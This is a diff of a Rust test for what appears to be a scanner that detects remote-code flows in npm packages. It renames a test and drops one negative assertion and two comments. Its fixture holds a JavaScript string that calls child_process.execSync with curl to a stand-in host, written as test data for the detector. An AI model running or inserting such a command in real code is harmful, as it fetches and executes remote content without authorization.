@@ -268,7 +268,7 @@ fn a_text_that_another_file_puts_together_is_read_to_its_end() {
 }
 
 #[test]
-fn a_function_that_is_not_known_gives_no_other_part_of_the_object_that_it_is_called_of() {
+fn a_part_of_an_object_is_found_and_a_method_of_data_gives_the_data() {
     let run = |call: &str, a: &str| {
         let text = "require('child_process').execSync('curl https://c.invalid/b').toString()";
         let entries = npm(
@@ -278,10 +278,7 @@ fn a_function_that_is_not_known_gives_no_other_part_of_the_object_that_it_is_cal
         let found = found(entries);
         found.flows.iter().any(is_remote_code)
     };
-    // Another file puts `f` there; it is nothing of what stands in `a.js`.
     let object = "const api = { o: 1 }; for (const k of Object.keys(api)) { api[k] = TEXT } module.exports = api";
-    assert!(!run("a.f('1')", object));
     assert!(run("a.o", object));
-    // A method of data gives the data.
     assert!(run("a.trim()", "module.exports = TEXT"));
 }
